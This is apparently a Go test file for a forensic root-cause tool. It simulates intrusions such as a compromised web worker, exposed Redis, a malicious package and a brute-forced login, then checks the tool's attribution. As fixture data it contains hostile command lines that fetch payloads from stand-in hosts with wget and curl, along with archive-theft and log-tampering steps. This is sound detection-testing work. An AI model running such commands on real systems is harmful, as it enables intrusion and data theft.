package rootcause_test

import (
	"strings"
	"testing"
	"time"

	"github.com/exhibit-dfir/exhibit/timeline"
)

func TestForkedWebWorkersNeedNoRecordOfTheirOwn(t *testing.T) {
	s := tell(t, "shop3")
	s.boot()
	s.after(time.Hour).noise(5)
	for range 10 {
		s.request("10.0.0.90", "GET", "http://shop/index.html")
		s.after(3 * time.Second)
	}
	s.request(outside, "POST", "http://shop/login.php")
	worker := &timeline.Event{PID: 31337, Session: "4294967295", UID: 33, User: "www-data"}
	sh := s.exec(worker, "/usr/bin/dash", "sh -c wget -qO /tmp/k http://198.51.100.4/k")
	get := s.exec(sh, "/usr/bin/wget", "wget -qO /tmp/k http://198.51.100.4/k")
	s.request("10.0.0.90", "GET", "http://shop/index.html")
	s.noise(3)
	firstEntry(t, ask(t, s)(get), "web request", "", outside)
}

func TestServiceOfAMaliciousPackageLeadsToTheInstallation(t *testing.T) {
	s := tell(t, "desk1")
	s.boot()
	s.after(time.Hour).noise(4)
	_, sh := s.login("olga", "10.0.0.21", "publickey", "SHA256:olga", 31)
	sudo := s.exec(sh, "/usr/bin/sudo", "sudo dpkg -i clocksync.deb")
	sudo.UID = 0
	s.exec(sudo, "/usr/bin/dpkg", "dpkg -i clocksync.deb")
	pkg := s.event("linux:dpkg_log:entry", "package-installed")
	pkg.Unit, pkg.Message = "clocksync", "status installed clocksync:amd64 1.0"
	s.stat("/usr/lib/systemd/system/clocksync.service", "root")
	s.stat("/usr/bin/clocksyncd", "root")
	s.after(26 * time.Hour)
	s.boot()
	s.after(10 * time.Second)
	d := s.daemon("/usr/bin/clocksyncd", "clocksync.service")
	out := s.connect(d, "198.51.100.61", 443)
	s.noise(3)
	firstEntry(t, ask(t, s)(out), "package installation", "", "")
}

func TestKeyFromTheAdministratorDoesNotMakeHimTheEntry(t *testing.T) {
	s := tell(t, "prod1")
	s.boot()
	s.after(time.Hour)
	_, sh := s.login("petra", "10.0.0.22", "publickey", "SHA256:petra", 4)
	root := s.exec(s.exec(sh, "/usr/bin/sudo", "sudo -s"), "/usr/bin/bash", "/bin/bash")
	root.UID = 0
	s.write(root, "file-created", "/home/backup/.ssh/authorized_keys")
	s.after(40 * time.Hour)
	_, in := s.login("backup", "10.0.0.50", "publickey", "SHA256:backup", 9)
	steal := s.exec(in, "/usr/bin/tar", "tar czf - /srv/customers")
	firstEntry(t, ask(t, s)(steal), "remote login", "backup", "10.0.0.50")
}

func TestExposedServiceLeadsToTheConnectionFromOutside(t *testing.T) {
	s := tell(t, "cache1")
	s.boot()
	redis := s.daemon("/usr/bin/redis-server", "redis-server.service")
	redis.UID = 110
	s.after(time.Hour).noise(3)
	for _, ip := range []string{"10.0.0.8", outside} {
		f := s.event("net:flow", "connection")
		f.Host, f.SrcIP, f.SrcPort, f.DstIP, f.DstPort = "", ip, 50000, "10.0.0.5", 6379
		f.TSEnd = f.TS + int64(20*time.Second)
	}
	sh := s.exec(redis, "/usr/bin/dash", "sh -c curl http://198.51.100.3/r")
	get := s.exec(sh, "/usr/bin/curl", "curl http://198.51.100.3/r")
	firstEntry(t, ask(t, s)(get), "inbound connection", "", outside)
}

func TestEditedLogLeadsToItsEditorNotToItsWriters(t *testing.T) {
	s := tell(t, "log1")
	s.boot()
	rsyslog := s.daemon("/usr/sbin/rsyslogd", "rsyslog.service")
	s.after(time.Hour)
	for range 6 {
		s.noise(1)
		s.write(rsyslog, "file-opened-for-write", "/var/log/auth.log")
	}
	for range 7 {
		s.fail("quinn", outside)
	}
	_, sh := s.login("quinn", outside, "password", "", 80)
	vi := s.exec(sh, "/usr/bin/vi", "vi /var/log/auth.log")
	s.write(vi, "file-opened-for-write", "/var/log/auth.log")
	s.after(time.Minute)
	s.write(rsyslog, "file-opened-for-write", "/var/log/auth.log")
	state := s.stat("/var/log/auth.log", "syslog")
	firstEntry(t, ask(t, s)(state), "password guessing", "quinn", outside)
}

// What a daemon that nothing explains runs is nobody's intrusion: a script
// that came with a package is a possibility, and must be told as one.
func TestAWeakEntryIsNotToldAsWhatHappened(t *testing.T) {
	s := tell(t, "build1")
	s.boot()
	pkg := s.event("linux:dpkg_log:entry", "package-installed")
	pkg.Unit, pkg.Message = "hooks", "status installed hooks:amd64 1.0"
	s.stat("/opt/hooks/run", "root")
	s.after(900 * time.Hour)
	s.noise(3)
	agent := s.exec(&timeline.Event{PID: 1, Session: "4294967295"}, "/agent", "/agent --listen")
	sh := s.exec(agent, "/usr/bin/bash", "bash -c work")
	job := s.exec(sh, "/usr/bin/bash", "bash /opt/hooks/run")
	g := ask(t, s)(job)
	if !strings.HasPrefix(g.Conclusion, "No way in was found") || g.Unexplained < 0.5 {
		t.Errorf("conclusion %q, unexplained %v, entries %+v", g.Conclusion, g.Unexplained, g.Entries)
	}
	if len(g.Entries) == 0 {
		t.Fatal("the possible entry is not listed")
	}
	if g.Entries[0].Confidence != "low" {
		t.Errorf("confidence %s", g.Entries[0].Confidence)
	}
	for _, said := range g.Narrative {
		if said.Stage == "Initial access" {
			t.Errorf("told as what happened: %+v", said)
		}
	}
}

// A row of what a file says is dated by the file and is nobody's act: it leads
// where the file leads, and not into whatever session was open then, least of
// all one whose account nothing names.
func TestWhatAFileSaysLeadsWhereTheFileLeads(t *testing.T) {
	s := tell(t, "unit1")
	s.audit = false
	s.boot()
	s.after(time.Hour)
	last := s.event("linux:lastlog:entry", "user-login")
	last.SrcIP = "198.51.100.60"
	for range 15 {
		s.fail("karl", outside)
	}
	s.login("karl", outside, "password", "", 60)
	sudo := s.event("syslog:sudo", "privilege-used")
	sudo.User, sudo.Cmdline = "karl", "/usr/bin/cp /tmp/netd /etc/systemd/system/netd.service"
	file := s.stat("/etc/systemd/system/netd.service", "root")
	unit := s.event("linux:systemd:unit", "unit-state")
	unit.TSKind, unit.File, unit.Unit, unit.Cmdline, unit.TS = timeline.State, file.File, "netd.service", "/usr/local/bin/netd", file.TS
	nobody := s.event("text:line", "")
	nobody.Message = "says no name"
	why := ask(t, s)
	firstEntry(t, why(file), "password guessing", "karl", outside)
	firstEntry(t, why(unit), "password guessing", "karl", outside)
	for _, e := range why(nobody).Entries {
		t.Errorf("a line that names nobody has an entry: %+v", e)
	}
}
